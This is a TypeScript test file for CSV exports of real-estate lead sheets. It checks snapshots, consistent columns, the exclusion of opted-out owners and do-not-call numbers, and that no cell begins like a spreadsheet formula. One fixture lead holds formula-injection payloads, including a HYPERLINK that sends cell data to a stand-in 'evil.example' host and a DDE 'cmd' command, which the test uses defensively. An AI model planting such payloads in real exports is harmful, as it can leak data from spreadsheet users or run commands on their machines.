/**
 * The files for other tools, compared with files that were read by a person. After a change on purpose, run this test with
 * `-u` and read what changed in `preset-files`.
 */
import { describe, expect, test } from 'vitest'
import { writeCsv } from '#contract/csv.ts'
import { FILE_PRESET_LIST } from '#contract/delivery/file-presets.ts'
import { leadSheet, type SheetLead } from '#contract/delivery/lead-sheet.ts'
import { presetSheet } from './preset-columns.ts'

const PLACE = { state: 'Texas', county: 'Travis', leadTypeName: 'Vacant Houses', timeZone: 'America/Chicago' }
const NO_PARTS = { owner_first_name: null, owner_last_name: null, owner_company: null }
const NO_MAILING = {
  mailing_address: null,
  mailing_street: null,
  mailing_city: null,
  mailing_state: null,
  mailing_zip: null,
}

const aLead = (lead: Partial<SheetLead> = {}): SheetLead => ({
  acquired_at: new Date('2026-11-18T12:00:00Z'),
  sold_at: new Date('2026-11-21T10:00:00Z'),
  address: '1 Elm St',
  city: 'Austin',
  zip: '78701',
  owner_names: ['Ann Owner'],
  ...NO_PARTS,
  ...NO_MAILING,
  phones: [],
  emails: [],
  facts: {},
  source: 'County records',
  is_do_not_call: false,
  consent: null,
  is_left_alone: false,
  ...lead,
})

const phone = (last: number, kind: 'mobile' | 'landline' | 'voip' | 'unknown', isDoNotCall = false) => ({
  number: `+1512555010${last}`,
  kind,
  isDoNotCall,
})

const LEADS: readonly SheetLead[] = [
  aLead({
    owner_names: ['Mary Ann Van Dyke', 'Bob, Jr. "Bobby" Van Dyke'],
    owner_first_name: 'Mary Ann',
    owner_last_name: 'Van Dyke',
    mailing_address: 'PO Box 9, Rear, Boston, MA 02101',
    mailing_street: 'PO Box 9, Rear',
    mailing_city: 'Boston',
    mailing_state: 'MA',
    mailing_zip: '02101',
    phones: [phone(0, 'landline'), phone(1, 'mobile', true), phone(2, 'mobile'), phone(3, 'voip'), phone(4, 'unknown')],
    emails: ['mary@example.com', 'ann@example.com'],
    facts: { valueCents: 31_250_050, equityPercent: 74, beds: 3, yearBuilt: 1978, lastSaleOn: '2003-06-17' },
    consent: 'Web form, 2026-11-01',
  }),
  aLead({
    address: '2 Elm St, Unit "B"',
    owner_names: ['Oak, Hill & Sons LLC'],
    mailing_address: '7 Main St, Winston-Salem, NC 27101-0042',
    phones: [phone(5, 'landline')],
  }),
  aLead({
    address: '3 Peña St',
    owner_names: ['=HYPERLINK("http://evil.example/?"&A1,"Call me")'],
    owner_first_name: '=cmd|"/C calc"!A0',
    owner_last_name: '@SUM(A1)',
    owner_company: '+1+1',
    mailing_address: '-2+3',
    emails: ['-2+3@example.com'],
    phones: [phone(6, 'mobile')],
    is_do_not_call: true,
    source: '\t=1+1',
  }),
  aLead({ address: '4 Elm St', owner_names: ['王 小明 Nguyễn'], mailing_address: 'Apartado 5, San José' }),
  aLead({ address: null, city: null, zip: null, owner_names: null, source: null, phones: null, is_left_alone: true }),
  aLead({ address: '6 Elm St', owner_names: ['Opted Out'], is_left_alone: true, phones: [phone(7, 'mobile')] }),
]

test('the plain file has the columns and cells that its buyers know, with the parts beside them', async () => {
  await expect(writeCsv(leadSheet(LEADS, PLACE))).toMatchFileSnapshot('preset-files/plain.csv')
})

describe.each(FILE_PRESET_LIST)('the file for %s', (preset) => {
  const rows = presetSheet(preset, LEADS, PLACE)
  const text = writeCsv(rows)

  test('is the file that was read by a person', async () => {
    await expect(text).toMatchFileSnapshot(`preset-files/${preset}.csv`)
  })

  test('has each column once, and the same ones whatever is in it', () => {
    const [header = []] = rows
    expect(new Set(header.map((name) => String(name).toLowerCase())).size).toBe(header.length)
    expect(presetSheet(preset, [], PLACE)).toEqual([header])
    for (const row of rows) expect(row).toHaveLength(header.length)
  })

  test('starts no cell like a formula', () => {
    const cells = text.split(/,|\r\n/).map((cell) => cell.replace(/^"/, ''))
    expect(cells.filter((cell) => /^[=+\-@\t]/.test(cell))).toEqual([])
    if (preset !== 'dialer') expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(6)
  })

  test('has no lead whose owner opted out, and no number that must not be called in a phone column', () => {
    const [header = [], ...leads] = rows
    const phones = header.flatMap((name, at) =>
      /phone/i.test(String(name)) && !/not call|type/i.test(String(name)) ? [at] : [],
    )
    expect(text).not.toMatch(/Opted Out|6 Elm St|Withdrawn/)
    expect(phones.length).toBeGreaterThan(0)
    for (const row of leads) for (const at of phones) expect(String(row[at])).not.toMatch(/5125550101|5125550106/)
  })
})

test('a dialer gets a row for each phone that may be called, and none for an owner without one', () => {
  const [header = [], ...rows] = presetSheet('dialer', LEADS, PLACE)
  expect(rows.map((row) => row[header.indexOf('Phone')])).toEqual([
    ...['5125550100', '5125550102', '5125550103', '5125550104'],
    '5125550105',
  ])
})
